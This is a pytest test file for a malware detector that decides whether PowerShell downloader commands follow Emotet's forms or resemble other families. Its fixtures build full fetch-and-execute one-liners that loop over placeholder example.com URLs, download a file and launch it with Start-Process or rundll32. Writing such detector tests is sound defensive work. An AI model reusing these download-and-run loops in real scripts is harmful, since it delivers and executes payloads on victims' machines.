"""Whose a command is that tries a list of addresses: Emotet's by its own forms, and others' that look like it."""

from __future__ import annotations

import pytest

from mimawari.detectors.marks.downloader import emotet_grammar
from mimawari.detectors.marks.emotet_forms import Owner, are_own

FOLDERS = [f"http://s{at}.example.com/wp-content/{end}/" for at, end in enumerate(("aB3x", "q8", "zz81k", "M0p", "7hTf"))]
SAME = [f"http://s{at}.example.com/77g7" for at in range(4)]
LOOP = "foreach($x in $u){try{$w.DownloadFile($x,$p);if((gi $p).length -ge 24110){Start-Process $p;break}}catch{}}"
LIBRARY_LOOP = "foreach($x in $u){try{$w.DownloadFile($x,$p);if((gi $p).length -ge 30000){&'rundll32' $p,'{export}';break}}catch{}}"


def listed(joiner: str, urls: list[str] = FOLDERS) -> str:
    return f"$u='{joiner.join(urls)}'.Split('{joiner}');"


OWN = {
    "a number below the profile, at signs": ("$n='371';$p=$env:userprofile+'\\'+$n+'.exe';" + listed("@") + LOOP, ("P1",)),
    "the same with stars": ("$n='371';$p=$env:userprofile+'\\'+$n+'.exe';" + listed("*") + LOOP, ("P1",)),
    "a number written into the path": ("$p=$env:temp+'\\12.exe';" + listed("@") + LOOP, ("P1",)),
    "Control_RunDLL": ("$p=$home+'\\a\\b.dll';" + listed("@") + LIBRARY_LOOP.replace("{export}", "Control_RunDLL"), ("P4",)),
    "exclamation marks": ("$p=$home+'\\a\\b.dll';" + listed("!") + LIBRARY_LOOP.replace("{export}", "Control_RunDLL"), ("P4",)),
    "AnyString": (
        "$p='C:\\Users\\Public\\Documents\\ssd.dll';" + listed(",") + LIBRARY_LOOP.replace("{export}", "AnyString"), ("P5",)
    ),
}  # fmt: skip

OTHERS = {
    "one folder on every host, cut at commas": "$p=$env:TEMP+'\\x.exe';" + listed(",", SAME) + LOOP,
    "the same folder, cut at at signs": "$n='371';$p=$env:userprofile+'\\'+$n+'.exe';" + listed("@", SAME) + LOOP,
    "a name of its own, cut at commas": "$p=$env:TEMP+'\\update.exe';" + listed(",") + LOOP,
    "a row of literals for one name": f"$u=({','.join(repr(one) for one in FOLDERS)});$p=$env:public+'\\svc.exe';" + LOOP,
    "DllRegisterServer, cut at commas": (
        "$p=$env:TEMP+'\\x.dll';" + listed(",") + LIBRARY_LOOP.replace("{export}", "DllRegisterServer")
    ),
    "a bar, a fixed name": "$p='C:\\ProgramData\\a.dll';" + listed("|") + LIBRARY_LOOP.replace("{export}", "f1"),
    "twelve addresses": "$n='371';$p=$env:userprofile+'\\'+$n+'.exe';"
    + listed("@", [f"http://s{at}.example.com/q{at}/" for at in range(12)])
    + LOOP,
}


@pytest.mark.parametrize("name", OWN)
def test_emotets_own_forms(name: str) -> None:
    text, era = OWN[name]
    found = emotet_grammar(text)
    assert found
    assert (found.owner, found.era) == (Owner.EMOTET, era)


@pytest.mark.parametrize("name", OTHERS)
def test_other_families_lists(name: str) -> None:
    found = emotet_grammar(OTHERS[name])
    assert found is not None, "another family's list is a downloader as well"
    assert (found.owner, found.era) == (Owner.OTHERS, ())


def test_between_them_it_is_only_likely() -> None:
    """A number below the profile, but a list cut at commas."""
    found = emotet_grammar("$n='371';$p=$env:userprofile+'\\'+$n+'.exe';" + listed(",") + LOOP)
    assert found
    assert found.owner is Owner.LIKELY


@pytest.mark.parametrize(
    ("addresses", "are"),
    [
        ((), False),
        (tuple(FOLDERS[:2]), False),
        (tuple(FOLDERS), True),
        (tuple(SAME), False),
        (tuple(f"{one}a.png" for one in FOLDERS), False),
        (tuple(f"{one}?112233" for one in FOLDERS), True),
        (tuple(f"http://s{at}.example.com/x{at}K" for at in range(5)), True),
    ],
)
def test_what_a_list_of_emotets_is(addresses: tuple[str, ...], are: bool) -> None:
    assert are_own(addresses) is are
